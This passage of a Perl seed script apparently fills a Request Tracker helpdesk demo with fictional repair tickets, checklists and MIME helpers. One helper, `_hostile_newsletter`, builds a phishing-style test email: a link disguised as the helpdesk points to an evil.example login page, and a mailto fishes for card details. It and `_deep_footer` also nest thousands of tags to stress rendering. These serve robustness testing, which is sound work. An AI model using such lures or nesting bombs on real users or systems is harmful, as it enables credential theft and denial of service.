            [ 'comment', 'supervisor', "Overdue: the hotel contract has 4 h response for guest Wi-Fi. Carol worked on this DrayTek yesterday (events VLAN DHCP); check her notes. Also check the portal certificate, the Vigor hotspot uses a Let's Encrypt certificate.", 5 ],
            [ 'comment', 'bob', "Remote: hotspot portal certificate on the Vigor expired 2 days ago (renewal failed, port 80 not reaching the router for the ACME challenge). iOS shows nothing or a certificate warning. Will renew on site and check the walled garden. KB 'Guest Wi-Fi: captive portal does not appear'.", 15 ],
            [ 'correspond', 'customer', "Thank you, the events network password has been given to reception.\nMarco", 0 ],
        ],
    },
    {
        subject   => 'Scan-to-email fails with Send error 1102',
        owner     => 'bob',
        requestor => 'm.osei@hartleyfinch.example',
        site      => 'Hartley & Finch Solicitors',
        address   => "3 Carlton Crescent\nSouthampton\nSO15 2EY",
        contact   => 'Margaret Osei, +44 23 8049 6210, m.osei@hartleyfinch.example',
        priority  => 60,
        status    => 'open',
        day       => 1,
        start     => 10,
        hours     => 1,
        due_hours => 20,
        assets    => ['HFS-MFP-01'],
        body      => "Scanning to email from the copier stopped working this morning. It says 'Send error 1102'.\nScanning to a USB stick still works.\nWe rely on scan-to-email for sending signed documents to clients.\nMargaret Osei, Office Manager",
        history   => [
            [ 'correspond', 'supervisor', "Hello Margaret,\n\nBob will visit tomorrow at 10:00. Could you check with your Microsoft 365 partner whether anything changed for the scanner\@hartleyfinch.example mailbox recently?\n\nDana", 0 ],
            [ 'correspond', 'customer', "Our Microsoft 365 partner says they turned off 'basic authentication' last week for security. Not sure if that's related.\nMargaret", 0 ],
            [ 'comment', 'bob', "Yes: 1102 = SMTP authentication failed, and SMTP AUTH is now disabled in the tenant. Office has a static IP on its business line. Plan: inbound connector relay per KB 'Microsoft 365: SMTP relay connector for copiers and scanners'. Need their partner (Global Admin) to create the connector during the visit.", 10 ],
        ],
    },
    {
        subject   => 'Server cupboard UPS beeping, battery fault light',
        visit_type => 'Network cabinet check',
        owner     => 'bob',
        requestor => 'bursar@westbrook-primary.example',
        site      => 'Westbrook Primary School',
        address   => "Westbrook Lane\nCowplain, Waterlooville\nPO8 9HJ",
        contact   => 'Gareth Price, +44 23 9200 7781, bursar@westbrook-primary.example',
        priority  => 70,
        status    => 'open',
        day       => 2,
        start     => 15,
        hours     => 1,
        due_hours => 52,
        assets    => ['WPS-UPS-01'],
        body      => "The UPS in the server cupboard has started beeping and a red battery light is on.\nThe caretaker says it beeps every few hours, including overnight.\nThe server and the main switch are plugged into it.\nGareth Price",
        history   => [
            [ 'correspond', 'supervisor', "Dear Mr Price,\n\nThe red light means the UPS battery needs replacing. The UPS still protects the equipment from spikes, but would not last long in a power cut. Bob will fit a new battery after school at 15:00.\n\nDana", 0 ],
            [ 'comment', 'bob', "SMT1500RMI2U, battery label says installed 2021. APCRBC133 in stock and allocated. UPS out of warranty since 07/2025, so chargeable: Gareth accepted the quote by phone. Bring the old battery back for recycling.", 10 ],
            [ 'correspond', 'customer', "Quote approved, purchase order 4471 to follow. The caretaker, Mr Hughes, will let you into the server cupboard.\nGareth", 0 ],
        ],
    },
    {
        subject   => 'Shipping labels print umlauts as question marks',
        owner     => 'bob',
        requestor => 'k.baecker@mueller-uk.example',
        site      => 'Müller GmbH UK',
        address   => "Unit 3, Segensworth Business Park\nFareham\nPO15 5RQ",
        contact   => 'Katrin Bäcker, +44 1489 960 221, k.baecker@mueller-uk.example',
        priority  => 35,
        status    => 'new',
        day       => 3,
        start     => 9,
        hours     => 1.5,
        due_hours => 80,
        assets    => ['MUL-LBL-01'],
        body      => "Our shipping labels print names and streets wrong when they contain German characters: 'Müller' comes out as 'M?ller' and 'Straße' as 'Stra?e'.\nThis started when we moved to the new ERP label templates.\nSome couriers reject the labels for our German customers.\nKatrin Bäcker",
        history   => [
            [ 'comment', 'supervisor', "Katrin sent photos: plain '?' rather than mojibake, so characters are lost at or before the printer. ZD421t, labels sent as raw ZPL from the ERP; new templates probably lack ^CI28. ERP supplier is in Germany, Katrin will set up a call during the visit.", 10 ],
            [ 'comment', 'bob', "Will bring the test ZPL from KB 'Zebra labels: umlauts and ß print as question marks'. Check the firmware supports UTF-8 first.", 0 ],
        ],
    },
    {
        subject   => 'Receipt printer offline after power cut',
        owner     => 'bob',
        requestor => 'oceanvillage@cafe-lumiere.example',
        site      => 'Café Lumière Ocean Village',
        address   => "Unit 3, Channel Way\nOcean Village, Southampton\nSO14 3TG",
        contact   => 'Tomasz Nowak, +44 23 8049 6128, oceanvillage@cafe-lumiere.example',
        priority  => 45,
        status    => 'new',
        day       => 5,
        start     => 11,
        hours     => 1,
        due_hours => 120,
        assets    => ['CLO-RCP-01'],
        body      => "After the power cut on Sunday our receipt printer shows as offline on the till. The printer has power and paper.\nWe are printing receipts on the kitchen printer for now, which works but staff have to walk round.\nTomasz Nowak, Branch Manager, Ocean Village",
        history   => [
            [ 'comment', 'supervisor', "Not urgent per Tomasz (workaround in place). Booked with Bob at the end of the week when he is in Ocean Village anyway. Try talking Tomasz through a status sheet by phone first.", 5 ],
            [ 'comment', 'bob', "Phoned Tomasz: status sheet shows 192.168.192.168, so the printer gets no DHCP lease. ISP replaced the router after the power cut? Check the new router's DHCP and recreate the reservation. KB 'Epson TM receipt printer offline after a power cut'.", 15 ],
        ],
    },
    {
        subject   => 'Reception printer jamming again (13.B2)',
        owner     => 'bob',
        requestor => 'reception@acme-dental.example',
        site      => 'Acme Dental Clinic',
        address   => "12 Harbour Street\nPortsmouth\nPO1 3AX",
        contact   => 'Julie Marsh, +44 23 9200 1234, reception@acme-dental.example',
        priority  => 55,
        status    => 'resolved',
        day       => -24,
        start     => 10,
        hours     => 1,
        due_hours => -570,
        assets    => ['ACME-PRN-01'],
        body      => "The reception printer is jamming again, the same as a few weeks ago. It says 13.B2 and the paper is creased.\nJulie Marsh",
        history   => [
            [ 'comment', 'bob', "Cleared 13.B2.D1: a torn strip from the last jam was still at the fuser inlet. Tray 2 over-filled, and the ream was stored open on the radiator cupboard. Reloaded fresh paper, 50-page duplex test OK. Fuser sleeve shows light wear: if it jams again, replace the fuser.", 60 ],
            [ 'correspond', 'bob', "Hello Julie,\n\nThe printer is working again. A small piece of paper from the last jam was still inside, and the paper in tray 2 had got damp. Please keep paper in its wrapper, away from the radiator, and fill the tray only up to the line.\n\nBob", 5 ],
            [ 'correspond', 'customer', "Thanks Bob, will do.\nJulie", 0 ],
        ],
    },
    {
        subject   => 'Zebra despatch printer says RIBBON OUT with new ribbon',
        owner     => 'bob',
        requestor => 'dave.kerridge@solent-logistics.example',
        site      => 'Solent Logistics',
        address   => "Unit 7, Nelson Industrial Park\nHedge End, Southampton\nSO30 2JH",
        contact   => 'Dave Kerridge, +44 23 8049 6455, dave.kerridge@solent-logistics.example',
        priority  => 60,
        status    => 'resolved',
        day       => -9,
        start     => 9,
        hours     => 1.5,
        due_hours => -210,
        assets    => ['SOL-LBL-01'],
        body      => "The Zebra despatch printer says 'RIBBON OUT' but we have just put a new ribbon in. We tried twice.\nDave Kerridge",
        history   => [
            [ 'comment', 'bob', "Ribbon loaded with the ink side away from the labels, so nothing transferred and the ribbon sensor tripped. Reloaded, ran Media > Calibration, cleaned the head with IPA. Showed the despatch team the loading diagram inside the cover.", 45 ],
            [ 'correspond', 'bob', "Hello Dave,\n\nThe label printer is printing again. The ribbon had been loaded the wrong way round. I have shown Lee in despatch how to load it; there is a diagram inside the printer's cover.\n\nBob", 5 ],
            [ 'comment', 'supervisor', "ZT411 warranty ended 08/2026. If it keeps needing visits, offer Dave a Zebra OneCare contract.", 0 ],
        ],
    },
    {
        subject   => 'Consulting room 3 printer prints faint or blank pages',
        owner     => 'bob',
        requestor => 'practice.manager@elmgrove-surgery.example',
        site      => 'Elmgrove Medical Practice',
        address   => "140 Elm Grove\nSouthsea, Portsmouth\nPO5 1LR",
        contact   => 'Karen Doyle, +44 23 9200 6602, practice.manager@elmgrove-surgery.example',
        priority  => 40,
        status    => 'stalled',
        day       => -2,
        start     => 14,
        hours     => 1,
        due_hours => -30,
        assets    => ['EGS-PRN-03'],
        body      => "The printer in consulting room 3 prints blank or very faint pages. We changed the toner and it is no better.\nDr Ahmed needs it for referral letters.\nKaren Doyle, Practice Manager",
        history   => [
            [ 'comment', 'bob', "Toner fitted was a compatible (non-Brother) cartridge. Drum shows 'Drum End Soon' and the corona wire was very dirty. Cleaned the corona wire: better but still faint. Needs a new drum unit, genuine Brother ordered. Pointed room 3 at room 2's printer in the meantime.", 50 ],
            [ 'correspond', 'bob', "Hello Karen,\n\nThe printer in room 3 needs a new drum unit, which I have ordered. Until it arrives, Dr Ahmed's PC prints to the printer in consulting room 2. Fitting the drum takes about ten minutes and we will book it as soon as it arrives.\n\nBob", 5 ],
            [ 'comment', 'supervisor', "Stalled: drum on backorder at the distributor, ETA 5 working days.", 0 ],
        ],
    },

    # ----- carol --------------------------------------------------------
    {
        subject   => 'Till 1 freezes when printing receipts',
        owner     => 'carol',
        requestor => 'hannah@tideandtrail.example',
        site      => 'Tide & Trail Outdoor',
        address   => "88 Commercial Road\nPortsmouth\nPO1 1EJ",
        contact   => 'Hannah Briggs, +44 23 9200 3390, hannah@tideandtrail.example',
        priority  => 80,
        status    => 'open',
        day       => 0,
        start     => 10,
        hours     => 1.5,
        due_hours => 2,
        assets    => [ 'TTO-RCP-01', 'TTO-POS-01' ],
        body      => "Till 1 freezes every time it tries to print a receipt. The Epson printer has an orange light flashing and makes a clicking noise.\nWe have switched everything off and on.\nTill 2 is OK but we get queues at the weekend.\nHannah Briggs",
        history   => [
            [ 'correspond', 'supervisor', "Hello Hannah,\n\nCarol Lindqvist will come at 10:00 today. If the till freezes, please restart only the POS app, not the card terminal, so the pairing Alice set up yesterday stays as it is.\n\nDana", 0 ],
            [ 'comment', 'carol', "Flashing error LED plus clicking = probably an autocutter jam on the TM-T88VII. Printer in warranty until 06/2027: bring a spare TM-T88VII to swap if the cutter is broken, and log the Epson RMA.", 5 ],
            [ 'correspond', 'customer', "OK thanks. We open at 9 so the shop will be busy, but till 1 is at the quiet end.\nHannah", 0 ],
        ],
    },
    {
        subject   => 'NAS storage pool degraded, drive 3 crashed',
        owner     => 'carol',
        requestor => 'neil@bramleycole.example',
        site      => 'Bramley Cole Accountants',
        address   => "21 West Street\nFareham\nPO16 0BG",
        contact   => 'Neil Bramley, +44 1329 960 418, neil@bramleycole.example',
        priority  => 90,
        status    => 'open',
        day       => 0,
        start     => 14,
        hours     => 2,
        due_hours => 5,
        assets    => ['BCA-NAS-01'],
        body      => "We got an email from the NAS overnight: 'Storage Pool 1 on BC-NAS is degraded' and 'Drive 3 has crashed'. The NAS is beeping.\nEverything still seems to open.\nWe are in the middle of year-end accounts for several clients, so please treat this as urgent.\nNeil Bramley, Partner",
        history   => [
            [ 'correspond', 'supervisor', "Hello Neil,\n\nThanks for forwarding the alert. Your data is still there on the remaining drives, but there is no spare protection until the failed drive is replaced, so we are treating this as urgent. Carol will visit this afternoon at 14:00 with a replacement drive. Please do not switch the NAS off.\n\nDana", 0 ],
            [ 'comment', 'supervisor', "DS923+ in warranty; SHR-1 on 4 x 8 TB Synology HAT5300. The drive may be under Synology warranty too: record its serial for the RMA. 8 TB HAT5300 from our stock allocated to this visit.", 10 ],
            [ 'comment', 'carol', "Hyper Backup to C2: last success 02:00 today. USB job: last success 3 days ago. Will run the USB job before the repair. Following KB 'Synology NAS: degraded storage pool and drive replacement'.", 10 ],
            [ 'correspond', 'customer', "Thank you. The office is open until 17:30, ask for me on arrival.\nNeil", 0 ],
        ],
    },
    {
        subject   => 'Separate VLAN for new CNC machines in the machine hall',
        visit_type => 'Network cabinet check',
        owner     => 'carol',
        requestor => 'k.baecker@mueller-uk.example',
        site      => 'Müller GmbH UK',
        address   => "Unit 3, Segensworth Business Park\nFareham\nPO15 5RQ",
        contact   => 'Katrin Bäcker, +44 1489 960 221, k.baecker@mueller-uk.example',
        priority  => 50,
        status    => 'open',
        day       => 1,
        start     => 8,
        hours     => 3,
        due_hours => 40,
        assets    => ['MUL-SW-01'],
        body      => "We are connecting three new CNC machines in the machine hall. Head office in Stuttgart wants them on a separate network (VLAN 30, 10.30.0.0/24), reachable only from the CAM workstation.\nThe network points in the hall are already cabled to the comms cabinet, ports 17-22 on the Cisco switch.\nPlease can you set this up?\nKatrin Bäcker",
        history   => [
            [ 'correspond', 'supervisor', "Hello Katrin,\n\nCarol will be with you tomorrow from 8:00. Could you send us the firewall rules agreed with Stuttgart (which ports the CAM workstation needs) before the visit?\n\nKind regards,\nDana", 0 ],
            [ 'correspond', 'customer', "The CAM station is 10.20.0.45 and needs TCP 8193 (FOCAS) and file sharing to the machines. Jürgen from Stuttgart IT will be on Teams from 8:30 UK time.\nKatrin", 0 ],
            [ 'comment', 'carol', "Plan: VLAN 30 on the CBS350; gi1/0/17-22 access VLAN 30; uplink to firewall tagged 30; firewall interface 10.30.0.1/24, no DHCP (machines static); rule CAM -> VLAN 30 TCP 8193 + SMB only. Machine hall PPE needed, see KB 'Müller GmbH UK: site access, PPE and machine hall rules'.", 20 ],
        ],
    },
    {
        subject   => 'Two extra desk phones for the new nurse room',
        owner     => 'carol',
        requestor => 'practice.manager@elmgrove-surgery.example',
        site      => 'Elmgrove Medical Practice',
        address   => "140 Elm Grove\nSouthsea, Portsmouth\nPO5 1LR",
        contact   => 'Karen Doyle, +44 23 9200 6602, practice.manager@elmgrove-surgery.example',
        priority  => 40,
        status    => 'new',
        day       => 1,
        start     => 13.5,
        hours     => 1.5,
        due_hours => 44,
        assets    => ['EGS-SW-01'],
        body      => "We are turning the old store room into a second nurse room.\nCould you install two more desk phones (we have bought two Yealink T54W) and make sure the network points work?\nKaren Doyle",
        history   => [
            [ 'comment', 'supervisor', "Do not add phones until Alice's visit today has sorted the PoE budget on EGS-SW-01 (reception phone rebooting). If the budget is still tight, take an injector or quote a larger switch.", 5 ],
            [ 'comment', 'carol', "Phones go on the hosted PBX: need the MAC addresses from the boxes and extensions 214/215 from Karen. Wall points N1/N2 untested, bring the cable tester.", 5 ],
        ],
    },
    {
        subject   => 'Two solicitors cannot connect to VPN (-7200)',
        owner     => 'carol',
        requestor => 'm.osei@hartleyfinch.example',
        site      => 'Hartley & Finch Solicitors',
        address   => "3 Carlton Crescent\nSouthampton\nSO15 2EY",
        contact   => 'Margaret Osei, +44 23 8049 6210, m.osei@hartleyfinch.example',
        priority  => 45,
        status    => 'open',
        day       => 4,
        start     => 10,
        hours     => 1,
        due_hours => 90,
        assets    => ['HFS-FW-01'],
        body      => "Two of our solicitors can't connect to the VPN from home since Monday. FortiClient shows 'Credential or SSL VPN configuration is wrong (-7200)'.\nTheir passwords work for email. Everyone else is fine.\nMargaret Osei",
        history   => [
            [ 'correspond', 'supervisor', "Hello Margaret,\n\nCarol will look at the firewall on site at 10:00 on the agreed day. In the meantime, could you ask the two users whether they changed their password recently?\n\nDana", 0 ],
            [ 'correspond', 'customer', "Both changed their passwords last Friday when Microsoft asked them to.\nMargaret", 0 ],
            [ 'comment', 'carol', "VPN users are local FortiGate accounts, not synced with Microsoft 365: they are typing the new M365 password, hence -7200. Reset both local passwords on site and discuss moving VPN auth to Entra ID SAML. FortiGate support contract expired 06/2026 (no firmware updates): raise renewal with Margaret and check the FortiOS version against the SSL-VPN tunnel mode removal.", 15 ],
        ],
    },
    {
        subject   => 'Reception printer keeps jamming (13.B2)',
        owner     => 'carol',
        requestor => 'reception@acme-dental.example',
        site      => 'Acme Dental Clinic',
        address   => "12 Harbour Street\nPortsmouth\nPO1 3AX",
        contact   => 'Julie Marsh, +44 23 9200 1234, reception@acme-dental.example',
        priority  => 50,
        status    => 'resolved',
        day       => -52,
        start     => 9,
        hours     => 1.5,
        due_hours => -1240,
        assets    => ['ACME-PRN-01'],
        body      => "The printer at reception keeps getting paper stuck. The message says 13.B2 jam.\nWe pull the paper out but it happens again after a few pages.\nJulie Marsh, Reception",
        history   => [
            [ 'comment', 'carol', "13.B2.D1, sheet torn in the registration area; removed the pieces. Tray 2 separation pad glazed: replaced pickup roller and separation pad from stock. 50 duplex pages OK. Page count 41,870.", 70 ],
            [ 'correspond', 'carol', "Hello Julie,\n\nThe printer is fixed: worn rollers were feeding the paper unevenly and I have replaced them. If it jams again, please don't pull the paper upwards; switch it off and call us.\n\nCarol", 5 ],
            [ 'correspond', 'customer', "Thank you Carol!\nJulie", 0 ],
        ],
    },
    {
        subject   => 'Conference Wi-Fi not accepting new devices',
        owner     => 'carol',
        requestor => 'ops@solentviewhotel.example',
        site      => 'Solent View Hotel',
        address   => "10 Western Esplanade\nSouthampton\nSO14 2AZ",
        contact   => 'Marco Rossi, +44 23 8049 6733, ops@solentviewhotel.example',
        priority  => 65,
        status    => 'resolved',
        day       => -1,
        start     => 16,
        hours     => 1.5,
        due_hours => -20,
        assets    => ['SVH-FW-01'],
        body      => "The conference room Wi-Fi stopped letting new people connect this afternoon during a 120-person event. People already connected are fine.\nDelegates see 'No internet' or 'Unable to join network'.\nMarco Rossi",
        history   => [
            [ 'comment', 'carol', "DrayTek LAN3 (events VLAN): pool 192.168.30.10-200 with a 3-day lease, 191 leases in use, most of them randomised MACs from earlier events. Moved the events LAN to 10.30.0.0/22, lease 2 h, cleared stale leases. New devices joining fine.", 60 ],
            [ 'correspond', 'carol', "Hello Marco,\n\nThe conference Wi-Fi is accepting new devices again. The network had run out of addresses because devices from previous events were still holding them. I have made the pool much larger and shortened how long devices keep an address, so this should not happen again even for large events.\n\nCarol", 5 ],
            [ 'correspond', 'customer', "Thank you, the organiser was very relieved.\nMarco", 0 ],
            [ 'comment', 'supervisor', "Added a quarterly DrayTek health check to this customer's contract review list.", 0 ],
        ],
    },
    {
        subject   => 'Test and patch network points in new ICT suite',
        owner     => 'carol',
        requestor => 'bursar@westbrook-primary.example',
        site      => 'Westbrook Primary School',
        address   => "Westbrook Lane\nCowplain, Waterlooville\nPO8 9HJ",
        contact   => 'Gareth Price, +44 23 9200 7781, bursar@westbrook-primary.example',
        priority  => 30,
        status    => 'open',
        day       => 3,
        start     => 9,
        hours     => 2,
        due_hours => 70,
        assets    => ['WPS-SW-01'],
        body      => "The new ICT suite (the old library) has 12 network points that were installed by an electrician over the summer.\nSeveral do not seem to work, and we don't know which switch ports they go to.\nCould you test them and patch them into the switch?\nGareth Price",
        history   => [
            [ 'correspond', 'supervisor', "Dear Mr Price,\n\nCarol will test and patch the ICT suite points from 9:00 to 11:00. Please make sure the room is free of classes for that time.\n\nDana", 0 ],
            [ 'correspond', 'customer', "The room will be free. It is on the first floor. Please note the ceiling void above the corridor has an asbestos label, so those tiles must not be lifted.\nGareth", 0 ],
            [ 'comment', 'carol', "Switch has 8 of 24 ports free, so 12 points will not fit. Patch the 8 the ICT lead needs now and quote a second Instant On 1930. Bring tester, punch-down tool, keystones and 20 x 0.5 m patch leads. No ceiling work (asbestos).", 10 ],
        ],
    },

    # ----- unassigned (supervisor's dispatch board) ---------------------
    {
        subject   => 'Card payments failing at busy times',
        owner     => '',
        requestor => 'sophie.hart@cafe-lumiere.example',
        site      => 'Café Lumière Southsea',
        address   => "45 Marmion Road\nSouthsea, Portsmouth\nPO5 2AT",
        contact   => 'Sophie Hart, +44 23 9200 4417, sophie.hart@cafe-lumiere.example',
        priority  => 75,
        status    => 'new',
        day       => undef,
        due_hours => 8,
        assets    => [ 'CLS-AP-01', 'CLS-POS-01' ],
        body      => "At busy times card payments on the till keep failing with 'Host not available' and we have to retry two or three times. Customers are getting annoyed.\nThe customer Wi-Fi also seems slow then.\nIt has been getting worse for two weeks.\nSophie Hart, Area Manager",
        history   => [
            [ 'comment', 'supervisor', "Not scheduled yet. Alice is at Southsea today for the receipt printer; asked her to glance at the Omada controller if time allows. Suspect customer Wi-Fi saturating the broadband. Needs a proper visit: guest bandwidth limits, till on its own SSID/VLAN.", 5 ],
        ],
    },
    {
        subject   => 'Weak Wi-Fi in rooms 214 and 216',
        owner     => '',
        requestor => 'ops@solentviewhotel.example',
        site      => 'Solent View Hotel',
        address   => "10 Western Esplanade\nSouthampton\nSO14 2AZ",
        contact   => 'Marco Rossi, +44 23 8049 6733, ops@solentviewhotel.example',
        priority  => 50,
        status    => 'open',
        day       => undef,
        due_hours => 30,
        assets    => ['SVH-AP-12'],
        body      => "Guests in rooms 214 and 216 say the Wi-Fi is very weak or drops completely. Other rooms on the second floor are fine.\nRoom 215 is being refurbished and the builders have put up a new partition wall.\nMarco Rossi",
        history   => [
            [ 'correspond', 'supervisor', "Hello Marco,\n\nThank you. We will arrange a visit and let you know the date. It would help to know whether the new wall has foil-backed board or metal studs.\n\nDana", 0 ],
            [ 'correspond', 'customer', "The builder says metal studs and foil-backed insulation board. The rooms are fully booked this week; next week is better.\nMarco", 0 ],
            [ 'comment', 'supervisor', "AP-12 is in the corridor outside 215 and out of warranty since 06/2025. Likely needs an in-room AP for 214/216. Schedule next week and combine with a check of the guest portal fix.", 5 ],
        ],
    },
    {
        subject   => 'Outlook slow and asking for shared mailbox password',
        owner     => '',
        requestor => 'practice.manager@elmgrove-surgery.example',
        site      => 'Elmgrove Medical Practice',
        address   => "140 Elm Grove\nSouthsea, Portsmouth\nPO5 1LR",
        contact   => 'Karen Doyle, +44 23 9200 6602, practice.manager@elmgrove-surgery.example',
        priority  => 35,
        status    => 'new',
        day       => undef,
        due_hours => -3,
        assets    => [],
        body      => "The reception PC (REC-02) takes ages to open Outlook and it keeps asking for the password of the practice shared mailbox.\nIt has been like this for a few weeks, but today it froze completely twice.\nKaren Doyle",
        history   => [
            [ 'comment', 'supervisor', "Overdue, missed the first response. Probably fixable remotely (credential prompts + large OST). Try a remote session first; otherwise add to Carol's Elmgrove visit tomorrow. KBs: 'Outlook keeps asking for a password', 'Outlook: rebuilding a corrupt or oversized OST file'.", 5 ],
        ],
    },
    {
        subject   => 'Goods-in network point dead after desk move',
        owner     => '',
        requestor => 'k.baecker@mueller-uk.example',
        site      => 'Müller GmbH UK',
        address   => "Unit 3, Segensworth Business Park\nFareham\nPO15 5RQ",
        contact   => 'Katrin Bäcker, +44 1489 960 221, k.baecker@mueller-uk.example',
        priority  => 25,
        status    => 'new',
        day       => 2,
        start     => 12,
        hours     => 1,
        due_hours => 60,
        assets    => [],
        body      => "The network point at the goods-in desk (labelled GI-04) has stopped working. The PC there shows 'Network cable unplugged'.\nWe moved the desk last week, maybe the cable was damaged.\nKatrin Bäcker",
        history   => [
            [ 'comment', 'supervisor', "Provisionally booked for midday; give it to whoever is nearest (Bob is at Müller the following day for the label printer). Bring cable tester and keystones. KB 'Network cable testing and RJ45 termination'.", 0 ],
        ],
    },
    {
        subject   => 'New Chromebooks cannot get an IP address',
        owner     => '',
        requestor => 'bursar@westbrook-primary.example',
        site      => 'Westbrook Primary School',
        address   => "Westbrook Lane\nCowplain, Waterlooville\nPO8 9HJ",
        contact   => 'Gareth Price, +44 23 9200 7781, bursar@westbrook-primary.example',
        priority  => 60,
        status    => 'open',
        day       => 1,
        start     => 15,
        hours     => 1,
        due_hours => 22,
        assets    => ['WPS-SW-01'],
        body      => "After half-term about 30 of the new Chromebooks cannot connect to the school Wi-Fi. They say 'Failed to obtain IP address'.\nThe older ones and the staff laptops are fine.\nYear 6 need them for a test later this week.\nGareth Price",
        history   => [
            [ 'correspond', 'supervisor', "Dear Mr Price,\n\nWe are looking into this today. It sounds like the pupils' network has run out of addresses now that the new Chromebooks have been added. We will confirm a visit time shortly.\n\nDana", 0 ],
            [ 'correspond', 'customer', "Thank you. The Chromebooks were set up by the trust's IT team, 32 devices.\nGareth", 0 ],
            [ 'comment', 'supervisor', "Pupil VLAN is a /24 with 7-day leases: 254 addresses, about 240 in use. Fix: lease 8 h and widen to /23 (KB 'DHCP scope exhausted: \"No IP address\" on new devices'). Booked tomorrow 15:00 after school; assign to Alice or Bob once their routes are clear.", 10 ],
        ],
    },
);

# ---------------------------------------------------------------------------
# Checklist templates (Field Checklists class): [ name, summary, body ].  One
# item per line; '# ' starts a heading; marks: [required], [value] or
# [value: unit], [choice: a | b | c].  A visit's 'visit_type' names one.
my @CHECKLISTS = (
    [
        'PC install',
        'New or replacement PC / laptop: from unboxing to a signed-off user',
        <<'TEXT',
# Before you start
Confirm the user's name, job role and required software with the site contact [required]
Check the old PC's files are backed up (or that there is nothing to keep) [required]
# Hardware
Unbox, inspect for transit damage and record the serial number [value] [required]
Fit the asset tag and record its number [value] [required]
Connect dock, monitors, keyboard, mouse and network; tidy the cables
# Software
Join the domain / Entra ID and check the user can sign in [required]
Run Windows Update until no updates remain
BitLocker enabled and recovery key escrowed [choice: yes | not applicable] [required]
Install the line-of-business applications from the software list
Map printers and network drives; print a test page
# Handover
Migrate the user's files and browser favourites from the old PC
Walk the user through sign-in, MFA and where their files are
Old PC wiped and labelled for return [choice: wiped | returned to customer | kept for spares]
TEXT
    ],
    [
        'Printer preventive maintenance',
        'Scheduled service of a laser printer or MFP: counters, consumables, rollers, test prints',
        <<'TEXT',
# Readings
Page count before service [value: pages] [required]
Toner level [value: %]
Jam codes in the event log since the last visit [value]
# Service
Clean the paper path, registration rollers and transfer roller [required]
Inspect pickup and separation rollers [choice: good | worn | replaced] [required]
Inspect fuser for scoring or creasing [choice: good | worn | replaced]
Vacuum toner dust from the cartridge bay (toner vacuum, never compressed air)
Check the firmware version against the manufacturer's latest [value]
# Verification
Print a configuration report and 20 duplex pages without a jam [required]
Scan-to-email / scan-to-folder test, if the device scans
Fit a service sticker with today's date
TEXT
    ],
    [
        'Network cabinet check',
        'Visual and functional check of a comms cabinet: power, cooling, switching, labelling',
        <<'TEXT',
# Power and environment
UPS status and battery runtime [value: min] [required]
UPS self-test passed [choice: passed | failed | not supported] [required]
Cabinet temperature at the top of the rack [value: °C]
Fans running and filters clean
# Switching and routing
Switch and firewall uptime checked; no unexpected reboots [required]
Error counters on uplink ports [choice: clean | errors found]
Firmware versions recorded [value]
Configuration backups taken and stored off site [required]
# Tidiness
Patch leads labelled at both ends; no loose cables in the doorway
Cabinet door locked and key returned to the site contact [required]
Photo of the cabinet front after the check
TEXT
    ],
);

# ---------------------------------------------------------------------------
# Everything below turns the tables above into RT records.

sub _cf_id {
    my ( $name, $lookup_type ) = @_;
    my $cf = RT::CustomField->new( RT->SystemUser );
    $cf->LoadByCols( Name => $name, LookupType => $lookup_type, Disabled => 0 );
    die "custom field '$name' missing: load fielddesk-admin-kit.pl first\n" unless $cf->Id;
    return $cf->Id;
}

sub _user {
    my ($name) = @_;
    my $user = RT::User->new( RT->SystemUser );
    $user->Load($name);
    die "no user '$name'\n" unless $user->Id;
    return $user;
}

sub _utc {
    my ($epoch) = @_;
    my @t = gmtime($epoch);
    return sprintf( '%04d-%02d-%02d %02d:%02d:%02d', $t[5] + 1900, $t[4] + 1, $t[3], $t[2], $t[1], $t[0] );
}

sub _mime {
    my ($text) = @_;
    my $type = $text =~ /^\s*</ ? 'text/html' : 'text/plain';
    return MIME::Entity->build(
        Type     => $type,
        Charset  => 'UTF-8',
        Encoding => 'quoted-printable',
        Data     => [ Encode::encode( 'UTF-8', $text ) ],
    );
}

sub _deep_footer {
    return '<table><tr><td>' x 300 . 'Zebra partner portal: layout tables 300 deep' . '</td></tr></table>' x 300
        . '<div>' x 3000 . 'Imported page footer, 3 000 divs deep' . '</div>' x 3000;
}

sub _hostile_newsletter {
    my $tables = '<table><tr><td>' x 400 . 'Spring offers inside' . '</td></tr></table>' x 400;
    my $divs   = '<div>' x 5000 . 'Unsubscribe' . '</div>' x 5000;
    return join "\n",
        '<p><b>Your March statement is ready.</b> Sign in to the helpdesk to see it:',
        '<a href="https://helpdesk-login.evil.example/rt/">https://helpdesk.fielddesk.test/Ticket/Display.html?id=42</a></p>',
        $tables, $divs,
        '<p><a href="mailto:refunds@evil.example?subject=Card%20details">Reply to claim a refund</a></p>',
        '<p>Tracking code: ' . ( 'Q' x 20_000 ) . '</p>';
}

sub _pasted_event_log {
    my @lines = map {
        sprintf( '2026-03-%02d %02d:%02d:%02d  13.B2.D1  Paper jam, fuser area  page count %d  tray 2', 1 + $_ % 28, $_ % 24, $_ % 60, ( $_ * 7 ) % 60, 48_210 - $_ )
    } 1 .. 2500;
    return "Here is the whole event log from the printer's web page:\n\n" . join( "\n", @lines ) . "\n\nTom";
}

# A one-page PDF, padded with comment lines to about $size bytes (a scan's size
# without a scan's bytes: ASCII only, so RT stores it as it is).
sub _pdf {
    my ( $title, $size ) = @_;
    my $text    = "BT /F1 22 Tf 72 760 Td ($title) Tj 0 -34 Td /F1 12 Tf (FieldDesk sample file.) Tj ET";
    my @objects = (
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
        '<< /Length ' . length($text) . " >>\nstream\n$text\nendstream",
        '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    );
    my $pdf = "%PDF-1.4\n";
    my @offsets;
    for my $n ( 1 .. @objects ) {
        push @offsets, length $pdf;
        $pdf .= "$n 0 obj\n$objects[$n - 1]\nendobj\n";
    }
    my $pad = "% scanned page data would stand here in a real scan of the delivery notes\n";
    $pdf .= $pad x int( ( $size - length $pdf ) / length $pad ) if $size > length $pdf;
    my $xref = length $pdf;
    $pdf .= "xref\n0 " . ( @objects + 1 ) . "\n0000000000 65535 f \n";
    $pdf .= sprintf( "%010d 00000 n \n", $_ ) for @offsets;
    return $pdf . "trailer\n<< /Size " . ( @objects + 1 ) . " /Root 1 0 R >>\nstartxref\n$xref\n%%EOF\n";
}

# A message with files (names as UTF-8: RT decodes them so; MIME-tools quotes
# backslashes and quotes itself).
sub _mime_with_files {
